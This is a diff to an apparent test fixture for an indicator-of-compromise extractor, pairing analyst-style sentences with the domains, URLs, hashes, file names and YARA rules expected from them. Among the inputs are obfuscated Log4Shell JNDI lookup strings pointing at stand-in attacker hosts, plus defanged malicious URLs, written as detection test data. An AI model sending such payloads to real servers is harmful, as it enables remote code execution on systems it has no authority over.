@@ -119,4 +119,54 @@ export const ANALYST_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = 
     ['exploits CVE-2021-\n44228 and CVE-\r\n2021-45046.', 'cve CVE-2021-44228', 'cve CVE-2021-45046'],
     ['a CVE-\n44228 and XCVE-2021-\n45046'],
   ],
+  'what is written around a mark': [
+    ['C2 was evil(.com). Then evil2(.net)), and the end(.)', 'domain evil.com', 'domain evil2.net'],
+    ['hxxp[:]/[/]evil[.]com/x and hxxp:[/]/evil2[.]com/y', 'url http://evil.com/x', 'url http://evil2.com/y'],
+    ['either/[/]or, a/[/]b.com', 'domain b.com'],
+    ['xxxp://evil.com/x and xxxps://evil2.com', 'url http://evil.com/x', 'url https://evil2.com'],
+    ['kötü[nokta]com.tr and evil(tečka)cz', 'domain xn--kt-fkaz.com.tr', 'domain evil.cz'],
+    ['(nokta) and [tečka] are words'],
+  ],
+  'ligatures that a PDF was copied with': [
+    ['o\uFB03ce-update.com, con\uFB01g.dll', 'domain office-update.com', 'filename config.dll'],
+    ['the sta\uFB00 \uFB01led a \uFB02at report.Next'],
+  ],
+  'look-ups of Log4j': [
+    ['\u0024{\u0024{lower:j}ndi:\u0024{lower:l}\u0024{lower:d}a\u0024{lower:p}://a.evil.com/x}', 'url ldap://a.evil.com/x'],
+    ['\u0024{\u0024{::-j}\u0024{::-n}di:\u0024{::-r}\u0024{::-m}\u0024{::-i}://203.0.113.7:1389/E}', 'url rmi://203.0.113.7:1389/E'],
+    ['\u0024{proto}://evil.com/x and a}://evil2.com', 'url evil.com/x', 'domain evil2.com'],
+  ],
+  'an URL that was broken behind its question mark': [
+    ['<http://evil.com/a?\nx7>', 'url http://evil.com/a?x7'],
+    ['Go to http://evil.com/a?\ntoken=1 now', 'url http://evil.com/a?token=1'],
+    ['Was it http://evil.com/a?\nToken is bad.', 'url http://evil.com/a'],
+    ['http://evil.com/?id=3D12&x=3Dy=\n%20z', 'url http://evil.com/?id=12&x=y%20z'],
+    ['http://evil.com/?id=12&x=\nnext', 'url http://evil.com/?id=12&x='],
+  ],
+  'sections and versions in other languages': [
+    ['Пункт 1.2.3.4, п. 3.1.2.4, Раздел 2.1.3.4 и wersja 2.3.4.5'],
+    ['sürüm 3.1.2.4, verze 2.3.4.5'],
+    ['узел 3.1.2.4', 'ipv4 3.1.2.4'],
+  ],
+  'what somebody asked a server for': [
+    ['"POST /owa/auth/logon.aspx HTTP/1.1" 200 and GET /a.php?x=1'],
+    ['GET /mine/random.exe, then /owa/shell.aspx', 'filename random.exe', 'filename shell.aspx'],
+  ],
+  'files in files': [['C:\\Temp\\a.iso->(UDF)->Setup.exe', 'windows-path C:\\Temp\\a.iso', 'filename Setup.exe']],
+  'objects and sources of programs': [
+    ['self.db.info, this.client.info and navigator.me'],
+    ['the db.self.info', 'hostname db.self.info'],
+    ['Makefile.am and evil.am', 'filename Makefile.am', 'domain evil.am'],
+  ],
+  'hardware addresses of digits alone': [
+    ['0011.2233.4455 and MAC address 1234.5678.9012', 'mac-address 00:11:22:33:44:55', 'mac-address 12:34:56:78:90:12'],
+    ['1234.5678.9012 and 0011.2233.445'],
+  ],
+  'a label of a hash with a remark': [[`MD5 (bytes): ${MD5.replaceAll(/..(?=.)/g, '$& ')}`, `md5 ${MD5}`]],
+  'YARA rules whose expressions hold slashes and brackets': [
+    [
+      'rule A {\n strings:\n  $a = /x:\\/\\/[a-z]{3}\\/\\{/i\n  $b = "}"\n condition:\n  all of them\n}\n}',
+      'yara rule A {\n strings:\n  $a = /x:\\/\\/[a-z]{3}\\/\\{/i\n  $b = "}"\n condition:\n  all of them\n}',
+    ],
+  ],
 };
